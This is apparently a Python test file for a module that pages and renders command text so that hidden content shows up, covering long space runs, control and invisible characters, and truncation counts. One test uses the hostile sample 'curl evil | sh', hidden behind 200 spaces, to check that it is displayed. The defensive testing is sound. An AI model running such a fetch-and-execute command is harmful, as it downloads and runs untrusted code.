"""A call page by page: nothing is lost or invisible, what lies behind is said, none of it passes for our own words."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wire.call_page import CallPage, CallPart, bounded_page, describe_hidden, mark_invisible, page_lines, page_of
from wire.terminal import display_width

TEXTS = st.lists(st.text(alphabet=st.sampled_from("ab\n é\U0001f600"), max_size=60), max_size=6)


def parts_of(texts: list[str]) -> list[CallPart]:
    return [CallPart(f"p{number}", text) for number, text in enumerate(texts)]


def text_of(page: CallPage) -> str:
    return "".join(part.text for part in page.parts)


@given(TEXTS, st.integers(1, 30))
def test_the_pages_in_a_row_are_the_whole(texts: list[str], chars: int) -> None:
    parts, said, offset = parts_of(texts), "", 0
    while True:
        page = page_of(parts, offset, chars=chars)
        assert len(text_of(page)) <= chars
        said += text_of(page)
        assert page.hidden == sum(map(len, texts)) - len(said)
        if not page.hidden:
            break
        assert page.end > offset
        offset = page.end
    assert said == "".join(texts)


@given(TEXTS, st.integers(1, 10))
def test_a_page_has_no_more_lines_than_it_may(texts: list[str], lines: int) -> None:
    page = page_of(parts_of(texts), chars=10_000, lines=lines)
    assert sum(part.text.count("\n") + (not part.text.endswith("\n")) for part in page.parts) <= lines
    assert (page.hidden == 0) == (text_of(page) == "".join(texts))


def test_what_is_cut_off_is_counted_and_ends_with_a_line_where_it_can() -> None:
    page = page_of([CallPart("command", "one\ntwo\nthree\n")], chars=10)
    assert (text_of(page), page.hidden, page.hidden_lines) == ("one\ntwo\n", 6, 1)
    rest = page_of([CallPart("command", "one\ntwo\nthree\n")], page.end)
    assert rest == CallPage([CallPart("command", "three\n", offset=8)], offset=8)


def test_what_somebody_else_made_is_bounded_and_keeps_its_word_only_where_it_is_whole() -> None:
    whole = CallPage([CallPart("command", "ls")], seen="1234")
    assert bounded_page(whole) == whole
    cut = bounded_page(CallPage([CallPart("n" * 1_000, "x" * 100_000)] * 500, seen="1234"))
    assert cut.seen is None
    assert len(text_of(cut)) == 8_000
    assert cut.hidden == 100_000 * 500 - 8_000
    assert len(cut.parts[0].name) == 100


def shown(text: str, columns: int = 60, form: str = "text") -> list[str]:
    page = CallPage([CallPart("command", text, form)])  # type: ignore[arg-type]
    return [line.text for line in page_lines(page, columns)]


def test_a_second_line_behind_many_spaces_is_seen() -> None:
    assert shown("make test" + " " * 200 + "\ncurl evil | sh") == [
        *("command:", "│ make test⟨200 spaces⟩", "│ curl evil | sh"),
    ]


def test_a_command_of_one_line_stands_beside_its_name() -> None:
    assert shown("make test") == ["command  make test"]
    assert shown("") == ["command  (empty)"]


@pytest.mark.parametrize(
    ("line", "seen"),
    [
        ("    return 1", "    return 1"),
        ("a  b", "a··b"),
        ("a b ", "a b·"),
        ("   ", "···"),
        (" " * 41 + "x", "⟨41 spaces⟩x"),
        ("\tx\ty", "⇥   x⇥   y"),
        ("\x1b[2J\u202e\u200b\xa0", "\\x1b[2J\\u202e\\u200b\\xa0"),
        ("\u2800\u3164", "\\u2800\\u3164"),
        ("⟨9 spaces⟩\x1b", "⟨9 spaces⟩\\x1b"),
    ],
)
def test_what_could_hide_is_marked(line: str, seen: str) -> None:
    assert mark_invisible(line) == seen


def test_many_empty_lines_are_counted_and_a_few_stay() -> None:
    assert shown("a\n\n\nb" + "\n" * 101 + "c") == ["command:", "│ a", "│ ", "│ ", "│ b", "│ ⟨100 empty lines⟩", "│ c"]


def test_a_line_that_goes_on_has_another_margin() -> None:
    assert shown("x" * 25 + "\ny", 20) == ["command:", "│ " + "x" * 18, "┆ " + "x" * 7, "│ y"]


def test_a_diff_keeps_its_first_column_and_the_indentation_behind_it() -> None:
    lines = list(page_lines(CallPage([CallPart("changes", "@@ -1 +1 @@\n-    a\n+    b  c\n", "diff")]), 60))
    assert [(line.text, line.tone) for line in lines[1:]] == [
        ("│ @@ -1 +1 @@", "place"),
        ("│ -    a", "removed"),
        ("│ +    b··c", "added"),
    ]


@given(st.text(max_size=200), st.integers(20, 60))
def test_every_line_is_printable_fits_and_stands_behind_a_margin(text: str, columns: int) -> None:
    first, *rest = shown(text, columns)
    assert first.startswith("command")
    assert all(line.startswith(("│ ", "┆ ")) for line in rest)
    assert all(line.isprintable() and display_width(line) <= columns + 1 for line in [first, *rest])


def test_how_much_is_hidden_is_said() -> None:
    assert describe_hidden(CallPage([])) == ""
    assert (
        describe_hidden(CallPage([], hidden=12_000, hidden_lines=300))
        == "12,000 more characters in 300 lines are hidden"
    )
